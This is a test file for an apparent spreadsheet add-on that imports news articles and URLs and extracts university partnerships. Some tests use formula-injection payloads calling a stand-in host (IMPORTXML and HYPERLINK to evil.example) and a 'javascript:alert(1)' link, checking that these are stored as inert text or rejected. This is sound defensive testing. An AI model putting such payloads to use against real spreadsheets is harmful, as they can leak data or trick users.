import { describe, expect, it } from "vitest";
import { ARTICLES, load, records } from "./helpers";

const PAGE = `<!doctype html><html><head><meta charset="utf-8">
<meta property="og:title" content="=HYPERLINK(&quot;http://evil.example&quot;,&quot;click&quot;)">
<meta property="article:published_time" content="2025-03-12T09:00:00+05:00">
<script>document.write("ad")</script></head><body>
<header><nav><ul><li>Home</li><li>Education</li></ul></nav></header>
<article><p>${ARTICLES.en}</p></article>
<section id="comments"><p>First!</p></section><footer>© News agency</footer></body></html>`;

describe("Add articles", () => {
  it("opens a dialog to paste articles or URLs", () => {
    const h = load();
    h.menu("Add articles…");
    const dialog = h.ui.dialogs.at(-1)!;
    expect(dialog.kind).toBe("modal");
    expect(dialog.title).toBe("Add articles");
    expect(dialog.html.getContent()).toContain("google.script.run");
  });

  it("fetches URLs, keeps the article text of the page, and records a page that fails without stopping", () => {
    const h = load({
      fetch: {
        "https://www.inform.kz/en/kaznu-wuhan": PAGE,
        "https://news.example.kz/gone": { status: 404, body: "Not found" },
      },
    });
    const result = h.run("addArticles", [
      "https://www.inform.kz/en/kaznu-wuhan\nhttps://news.example.kz/gone\nhttps://unreachable.example.kz/a\n---\n" +
        ARTICLES.kk,
    ]);
    expect(result.ok).toBe(true);
    const message = (result as { value: string }).value;
    expect(message).toMatch(/^Added 4 articles to Sources \(S-000001, S-000002, S-000003, S-000004\)\./);
    expect(message).toMatch(/2 pages could not be fetched: S-000002 \(the site answered HTTP 404/);
    const rows = records(h, "Sources");
    expect(rows.map((r) => [r.ID, r.Outlet, r.Date])).toEqual([
      ["S-000001", "inform.kz", "2025-03-12"],
      ["S-000002", "news.example.kz", ""],
      ["S-000003", "unreachable.example.kz", ""],
      ["S-000004", "", ""],
    ]);
    expect(rows[0]!["Page text"]).toBe(ARTICLES.en);
    expect(String(rows[1]!.Result)).toMatch(/^Error: the site answered HTTP 404/);
    expect(String(rows[2]!.Result)).toMatch(/^Error: could not fetch the page/);
    // Extract reads the fetched page and the pasted text, and tries the failed pages again.
    const extracted = h.menu("Extract partnerships from new articles");
    expect(extracted).toMatch(
      /^Extract done: 4 articles, 2 partnerships \(2 new rows\), 0 need review\. 2 articles could not be read/,
    );
    expect(records(h, "Partnerships").map((r) => [r.Partner, r.Sources])).toEqual([
      ["Wuhan University", "S-000001"],
      ["Ankara University", "S-000004"],
    ]);
  });

  it("names the lines that are not valid links, adds none of them, and fetches the good ones", () => {
    const h = load({ fetch: { "https://www.inform.kz/en/kaznu-wuhan": PAGE } });
    const result = h.run("addArticles", [
      [
        "https://www.inform.kz/en/kaznu-wuhan",
        "www.inform.kz/ru/news/123",
        "htp://broken",
        "https://exa mple.com/news",
        "javascript:alert(1)",
        "ftp://files.example.kz/report.pdf",
      ].join("\n"),
    ]);
    expect(result).toEqual({
      ok: true,
      value:
        '5 lines are not valid links, so they were not added: line 2 "www.inform.kz/ru/news/123" (add https:// in front: https://www.inform.kz/ru/news/123); line 3 "htp://broken" ("htp://" is a misspelt http:// or https://); line 4 "https://exa mple.com/news" (a link cannot contain a space); line 5 "javascript:alert(1)" ("javascript:" is not a web page\'s link); line 6 "ftp://files.example.kz/report.pdf" ("ftp://" links are not web pages: only http:// and https:// can be fetched). Added 1 article to Sources (S-000001). Next: Partnerships › Extract partnerships from new articles.',
    });
    const rows = records(h, "Sources");
    expect(rows.map((r) => [r.ID, r["Text or URL"], r.Outlet])).toEqual([
      ["S-000001", "https://www.inform.kz/en/kaznu-wuhan", "inform.kz"],
    ]);
    expect(rows[0]!["Page text"]).toBe(ARTICLES.en);
    // Only bad lines: nothing is written, and the answer says why.
    const only = h.run("addArticles", ["htp://broken"]);
    expect(only).toEqual({
      ok: true,
      value:
        'No article was added. 1 line is not a valid link, so it was not added: line 1 "htp://broken" ("htp://" is a misspelt http:// or https://).',
    });
    expect(records(h, "Sources")).toHaveLength(1);
  });

  it("reports a link typed straight into Sources that is not valid, instead of reading it as an article", () => {
    const h = load({
      workbook: {
        Sources: [
          ["ID", "Text or URL", "Title", "Outlet", "Language", "Date", "Processed", "Result", "Page text"],
          ["S-000001", "www.inform.kz/ru/news/123", "", "", "", "", "", "", ""],
        ],
      },
    });
    const message = h.menu("Extract partnerships from new articles");
    expect(message).toMatch(/1 article could not be read/);
    expect(records(h, "Sources")[0]!.Result).toBe(
      "Error: the link is not valid (add https:// in front: https://www.inform.kz/ru/news/123): correct it, or paste the article's text",
    );
  });

  it("leaves out what is already in Sources and says what to do with an empty paste", () => {
    const h = load();
    h.run("addArticles", [ARTICLES.en]);
    const again = h.run("addArticles", [`${ARTICLES.en}\n---\n${ARTICLES.ru}`]);
    expect(again).toEqual({
      ok: true,
      value:
        "Added 1 article to Sources (S-000002). 1 article already in Sources (S-000001) left out. Next: Partnerships › Extract partnerships from new articles.",
    });
    expect(h.run("addArticles", ["   \n---\n "])).toEqual({
      ok: true,
      value: "Nothing to add: paste the text of an article, or its URL.",
    });
  });
});

describe("Add articles with bad input", () => {
  it("says what it did with an article longer than a cell holds", () => {
    const h = load();
    const huge = `${ARTICLES.en}\n${"More text about the cooperation. ".repeat(2000)}`;
    const result = h.run("addArticles", [huge]);
    expect((result as { value: string }).value).toMatch(
      /^Added 1 article to Sources \(S-000001\)\. Longer than a cell holds, cut to 50,000 characters: S-000001\./,
    );
    const text = String(records(h, "Sources")[0]!["Text or URL"]);
    expect(text.length).toBeLessThanOrEqual(50_000);
    expect(text.startsWith(ARTICLES.en)).toBe(true);
  });

  it("adds nothing for binary junk or a value that is not text", () => {
    const h = load();
    expect(h.run("addArticles", ["\u0000\u0001\u0002"])).toEqual({
      ok: true,
      value: "Nothing to add: paste the text of an article, or its URL.",
    });
    expect(h.run("addArticles", [42])).toEqual({
      ok: true,
      value: "Nothing to add: paste the text of an article, or its URL.",
    });
  });
});

describe("Text that looks like a formula", () => {
  it("is written as text, never as a formula, wherever Seriktes writes it", () => {
    const h = load({ fetch: { "https://news.example.kz/x": PAGE } });
    const pasted = ['=IMPORTXML("http://evil.example","//a")', "+1 555 0100", "@x handle", "-minus first"];
    h.run("addArticles", [[...pasted, "https://news.example.kz/x"].join("\n---\n")]);
    const sources = records(h, "Sources");
    expect(sources.slice(0, 4).map((r) => r["Text or URL"])).toEqual(pasted);
    // The page's title is a formula-looking string too.
    expect(sources[4]!.Title).toBe('=HYPERLINK("http://evil.example","click")');
    h.menu("Extract partnerships from new articles");
    h.menu("Build summary");
    for (const sheet of ["Sources", "Partnerships", "Summary"]) {
      expect(
        h
          .formulas(sheet)
          .flat()
          .filter((f) => f !== ""),
      ).toEqual([]);
    }
    expect(h.displayValues("Sources").flat()).toContain("+1 555 0100");
  });
});
